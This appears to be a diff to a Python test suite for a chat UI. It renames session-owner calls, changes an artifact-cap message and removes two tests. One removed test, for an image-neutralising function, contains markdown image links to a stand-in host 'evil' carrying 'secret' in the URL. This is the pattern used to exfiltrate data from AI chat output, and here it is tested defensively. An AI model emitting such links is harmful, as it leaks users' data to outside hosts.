@@ -38,7 +38,8 @@ from core.events import EventEmitter, SessionEventHandler, TaskWeaverEvent
 from core.memory import AttachmentType, Post
 from tests.llm_server import Answer, ScriptedLLMServer
 from tests.ui_harness import start_server, stop_server
-from ui.files import Artifact, neutralise_images, parse_artifacts, resolve_inside, select_artifacts, table_markdown
+from ui.files import Artifact, parse_artifacts, resolve_inside, select_artifacts
+from ui.markdown import neutralise_images
 from ui.lifecycle import SESSION_FAILED, SessionOwner, session_error_text
 from ui.answer import AnswerDraft
 
@@ -254,13 +255,6 @@ def test_only_files_inside_the_session_folder_are_served(tmp_path: Path) -> None
     assert resolve_inside(cwd, cwd) is None
 
 
-def test_table_markdown_escapes_cells() -> None:
-    text = table_markdown('{"columns": ["a", "b|c"], "rows": [["1", "x|y\\nz"]], "shape": [1, 2]}')
-    assert "| a | b\\|c |" in text
-    assert "| 1 | x\\|y z |" in text
-    assert "shape: 1 rows × 2 columns" in text
-
-
 def test_weaver_ui_launcher_serves_the_app_from_any_folder(tmp_path: Path) -> None:
     """``weaver ui`` finds .chainlit/config.toml and public/ when started elsewhere, and keeps its
     app folder where it was started."""
@@ -322,13 +316,13 @@ def test_session_owner_grace_reconnect_and_cleared_chat(tmp_path: Path) -> None:
             settle_s=0.1,
         )
         # A blip: the browser is back when the grace period ends, so the session lives on.
-        kept = owner.open("blip", "alice")
+        kept = owner.acquire("blip", "alice").session
         owner.release("blip")
         connected.add("blip")
         await _until(lambda: not owner.stop_pending("blip"), 5, "the grace timer")
         assert not kept.is_stopped and owner.current("blip") is kept
         # Gone for good: stopped after the grace period; the next message gets a fresh session.
-        gone = owner.open("gone", "bob")
+        gone = owner.acquire("gone", "bob").session
         owner.release("gone")
         await _until(lambda: gone.is_stopped, 10, "the session to stop")
         lease = owner.acquire("gone", "bob")
@@ -340,7 +334,7 @@ def test_session_owner_grace_reconnect_and_cleared_chat(tmp_path: Path) -> None:
         assert not owner.stop_pending("gone")
         # "New chat": stopped after the short settle delay, not the grace period.
         owner.grace_s = 30
-        cleared_session = owner.open("cleared", "carol")
+        cleared_session = owner.acquire("cleared", "carol").session
         owner.release("cleared")
         cleared.add("cleared")
         await _until(lambda: cleared_session.is_stopped, 5, "the cleared chat to stop")
@@ -370,7 +364,7 @@ def test_artifacts_beyond_the_cap_are_listed_by_name_not_attached(ui_server: UIS
         images = [e for e in client.elements() if e.get("type") == "image"]
     assert len(images) == 20, len(images)
     said = "\n".join(answers(turn))
-    assert "Only the first 20 files are attached; 3 more" in said, said
+    assert "showing 20 of 23 files; the rest are in the working folder too" in said, said
 
 
 def test_select_artifacts_skips_files_over_the_size_cap(tmp_path: Path) -> None:
@@ -383,28 +377,6 @@ def test_select_artifacts_skips_files_over_the_size_cap(tmp_path: Path) -> None:
     )
     assert [a.name for a in chosen.shown] == ["small.png"]
     assert len(chosen.notes) == 1 and "`big.bin` (26 MB)" in chosen.notes[0] and "over 25 MB" in chosen.notes[0]
-
-
-def test_neutralise_images_outside_code_only() -> None:
-    text = (
-        "See ![chart](http://evil/?q=secret) and [a link](http://ok).\n"
-        "Inline `![kept](x)` stays; ![ref][r] too.\n"
-        "```python\nprint('![kept](y)')\n```\n"
-        "~~~\n![kept](z)\n~~~\n"
-        "Last ![x](http://evil/2)"
-    )
-    assert neutralise_images(text) == (
-        "See [image: chart](http://evil/?q=secret) and [a link](http://ok).\n"
-        "Inline `![kept](x)` stays; [image: ref][r] too.\n"
-        "```python\nprint('![kept](y)')\n```\n"
-        "~~~\n![kept](z)\n~~~\n"
-        "Last [image: x](http://evil/2)"
-    )
-    # When unsure (escaped backticks, an unclosed span, a fence-like line with a backtick), it neutralises.
-    assert neutralise_images("\\`![a](u)\\`") == "\\`[image: a](u)\\`"
-    assert neutralise_images("`open ![a](u)") == "`open [image: a](u)"
-    assert neutralise_images("```x`y\n![a](u)") == "```x`y\n[image: a](u)"
-    assert neutralise_images("```\n![in](u)") == "```\n![in](u)"  # an unclosed fence runs to the end
 
 
 def test_printed_image_syntax_reaches_the_browser_only_as_code(ui_server: UIServer) -> None:
@@ -513,7 +485,7 @@ def test_session_stops_run_on_their_own_threads() -> None:
     async def scenario() -> None:
         owner = SessionOwner(lambda user: SlowSession(), is_connected=lambda key: False, grace_s=0)
         for i in range(12):
-            owner.open(f"k{i}", "u")
+            owner.acquire(f"k{i}", "u").session
         closing = asyncio.ensure_future(owner.close_all())
         await asyncio.sleep(0)
         # With stops in the default executor (6 workers here) this would wait for a free worker.
